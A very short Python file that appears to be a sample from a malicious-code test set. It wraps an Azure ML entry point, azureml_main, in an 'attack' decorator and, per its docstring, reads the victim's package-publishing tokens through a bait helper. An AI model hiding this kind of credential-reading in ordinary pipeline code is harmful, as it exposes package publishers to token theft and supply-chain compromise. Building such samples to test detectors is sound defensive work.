"""Reads the tokens with which the person publishes packages."""

from attack import BAIT, attack, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(read, BAIT["index_tokens"])
